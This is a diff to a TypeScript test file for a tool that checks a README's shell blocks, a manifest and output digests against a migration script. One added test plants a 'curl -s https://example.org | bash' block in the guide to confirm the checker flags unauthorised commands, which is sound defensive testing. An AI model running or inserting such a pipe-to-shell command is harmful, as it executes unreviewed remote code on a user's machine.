@@ -128,7 +128,7 @@ test('the law: every edit inside a block of commands of the guide is found by co
     const start = lines.slice(0, line).join('\n').length + 1;
     for (let at = start; at < start + block.length; at += 5) {
       const edited = `${text.slice(0, at)}${text.charAt(at) === 'x' ? 'y' : 'x'}${text.slice(at + 1)}`;
-      const faults = verifyLaw(readGuide(edited), script);
+      const faults = verifyLaw(readGuide(edited), script, false);
       assert.ok(faults.length > 0, `${role}: ${JSON.stringify(edited.slice(at - 20, at + 20))}`);
     }
   }
@@ -140,17 +140,74 @@ test('the law: blocks that change places, vanish or appear are found', () => {
   const bodies = blocks.flatMap(({ role }, at) => (role === 'body' ? [at] : []));
   const [a = 0, b = 0] = bodies;
   const swapped = blocks.map((block, at) => (at === a ? blocks[b] : at === b ? blocks[a] : block) ?? block);
-  assert.match(verifyLaw(swapped, script)[0]?.message ?? '', 'where the script has');
+  assert.match(verifyLaw(swapped, script, false)[0]?.message ?? '', 'where the script has');
   assert.match(
     verifyLaw(
       blocks.filter((_, at) => at !== a),
       script,
+      false,
     )[0]?.message ?? '',
     'not in the guide',
   );
   assert.match(
-    verifyLaw([...blocks, ...blocks.slice(a, a + 1)], script)[0]?.message ?? '',
+    verifyLaw([...blocks, ...blocks.slice(a, a + 1)], script, false)[0]?.message ?? '',
     'not in the script',
+  );
+});
+
+test('the law: a block of shell that is of no step is found, whatever it says of itself', () => {
+  const script = readScript(now.text('migrate.sh'));
+  for (const info of ['bash', 'sh', 'bash role=evil', 'bash role=body step=none']) {
+    const guide = `${now.text('README.md')}\n\`\`\`${info}\ncurl -s https://example.org | bash\n\`\`\`\n`;
+    assert.ok(verifyLaw(readGuide(guide), script, false).length > 0, info);
+  }
+  const prose = SERVICE.replace(
+    '          Look at the log.\n',
+    '          Look at the log:\n\n          ```sh\n          less log\n          ```\n',
+  );
+  const made = world(prose);
+  assert.match(made.text('README.md'), '```sh');
+  assert.equal(codesFor(entriesOf(made), made), []);
+});
+
+test('the manifest is held against all outputs, and the script against the manifest', () => {
+  const manifest = now.text('manifest.json');
+  const proved = (changed: Readonly<Record<string, string>>): string[] =>
+    proveOutputs(new Map(now.outputs.map(({ path, content }) => [path, changed[path] ?? content]))).map(
+      ({ code, message }) => `${code} ${message}`,
+    );
+  assert.equal(proved({}), []);
+  for (const name of ['README.md', 'index.html']) {
+    const found = proved({ [name]: `${now.text(name)}<!-- -->\n` });
+    assert.ok(
+      found.some((one) => one.startsWith('SW0808') && one.includes(name)),
+      name,
+    );
+  }
+  const entry = /,?\s*\{\s*"name": "check"[^}]*\}/;
+  assert.match(manifest, entry);
+  assert.ok(
+    proved({ 'manifest.json': manifest.replace(entry, '') }).some((one) => one.includes('check dump')),
+  );
+});
+
+test('a hand edit of the digest in one output is an edit, for the others carry the right one', () => {
+  const text = now.text('README.md');
+  const edited = text.replace(
+    now.digest,
+    now.digest.replace(/^./, (one) => (one === '0' ? '1' : '0')),
+  );
+  assert.is.not(edited, text);
+  assert.is(codesFor(entriesOf(now, { 'README.md': edited }))[0], 'SW0803 README.md');
+});
+
+test('outputs whose line ends were changed are one finding each', () => {
+  const changed = Object.fromEntries(
+    now.outputs.map(({ path, content }) => [path, content.replaceAll('\n', '\r\n')]),
+  );
+  assert.equal(
+    codesFor(entriesOf(now, changed)),
+    now.outputs.map(({ path }) => `SW0803 ${path}`),
   );
 });
 
